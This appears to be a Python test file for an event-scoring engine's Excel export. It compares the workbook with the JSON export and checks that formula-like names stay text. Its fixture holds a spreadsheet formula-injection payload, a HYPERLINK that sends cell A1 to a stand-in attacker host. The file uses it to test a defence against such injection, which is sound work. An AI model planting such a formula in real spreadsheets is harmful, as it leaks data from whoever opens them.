"""`python -m engine export --format xlsx --out FILE`: the workbook opened with openpyxl, its cells compared
with the JSON export of the same event; a performer named like a formula stays text."""

from __future__ import annotations

import io
import json
import zipfile
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl

from engine.domain.model import Settings
from engine.domain.roster import build_roster
from engine.views import workbook
from tests.support.commands import shell
from tests.support.events import seed_event
from tests.support.rounds import play_round

FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click me")'
ROSTER = [
    {"name": FORMULA, "order": 1, "category": "Solo"},
    {"name": "Bea", "order": 2, "category": "Solo"},
    {"name": "+Cleo", "order": 3, "category": "Duo/Trio"},
    {"name": "@Dan", "order": 4, "category": "Duo/Trio"},
]
SCORES = [
    {1: "6", 2: "7", 3: "6.5"},
    {1: "9", 2: "8.5", 3: "9.5"},
    {1: "5", 2: "5", 3: "5"},
    {1: "8", 2: "7"},
]
COMMENTS = {(0, 2): "-Too short, but =bold.", (1, 1): "Lovely."}


def seed(svc, clock) -> None:
    """seed_event's accounts, then an event of ROSTER (in two categories) played with SCORES."""
    tokens = seed_event(svc, performers=1)
    svc.create_event(Settings(perform_seconds=10, score_seconds=30), build_roster(ROSTER), open_lobby=True)
    play_round(svc, clock, tokens, SCORES, COMMENTS)


def rows(ws) -> list[dict]:
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]


def test_the_workbook_holds_the_json_exports_results_scores_and_comments(svc, clock, tmp_path):
    seed(svc, clock)
    out = tmp_path / "results.xlsx"
    done = shell("export", "--format", "xlsx", "--out", str(out))
    assert done.returncode == 0, done.stderr
    doc = json.loads(shell("export", "--format", "json").stdout)
    book = openpyxl.load_workbook(io.BytesIO(out.read_bytes()))
    assert book.sheetnames == ["Solo", "Duo_Trio", "Scores", "Comments"]
    names = {r["performer_id"]: r["performer"] for r in doc["results"]}
    judges = {f"judge{i}@test.local": f"Judge {i}" for i in (1, 2, 3)}
    by_judge = {(s["performer_id"], s["judge"]): s for s in doc["scores"] if not s["recused"]}
    for sheet, category in (("Solo", "Solo"), ("Duo_Trio", "Duo/Trio")):
        ws = book[sheet]
        assert ws.freeze_panes == "A2"
        got = rows(ws)
        want = doc["categories"][category]
        assert [(r["Rank"], r["Performer"], r["Total"]) for r in got] == [
            (w["rank"], names[w["performer_id"]], float(w["total"])) for w in want
        ]
        for r, w in zip(got, want, strict=True):
            for email, name in judges.items():
                score = by_judge.get((w["performer_id"], email))
                assert r[name] == (None if score is None else float(score["total"]))
    scores = rows(book["Scores"])
    assert len(scores) == len(by_judge) == 11
    for r in scores:
        pid = next(p for p, n in names.items() if n == r["Performer"])
        s = by_judge[(pid, r["Judge's email"])]
        assert r["Judge"] == judges[s["judge"]] and r["Score"] == float(s["criterion:Score"])
        assert r["Total"] == float(s["total"]) and r["Revisions"] == s["revision"] == 1
        assert r["Submitted (UTC)"] == datetime.fromtimestamp(s["submitted_at"], UTC).replace(tzinfo=None)
    comments = {(r["Performer"], r["Judge"]): r["Comment"] for r in rows(book["Comments"])}
    assert comments == {(FORMULA, "Judge 2"): "-Too short, but =bold.", ("Bea", "Judge 1"): "Lovely."}
    no_out = shell("export", "--format", "xlsx")
    assert no_out.returncode == 2 and no_out.stderr.strip() == "--format xlsx writes a file: add --out FILE."


def test_a_text_that_starts_like_a_formula_is_a_string_cell_never_a_formula(svc, clock):
    seed(svc, clock)
    data = workbook.to_xlsx(svc.snapshot())
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in risky} >= {FORMULA, "+Cleo", "@Dan", "-Too short, but =bold."}
    for c in risky:
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    assert all(c.data_type != "f" for c in cells)
    # In the file itself: no <f> element (a formula), the name in a string cell.
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    assert any('t="inlineStr"><is><t>=HYPERLINK(' in s for s in sheets)
    numbers = [c for c in cells if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert numbers and all(c.data_type == "n" for c in numbers)
    assert Decimal(str(book["Solo"]["C2"].value)) > 0
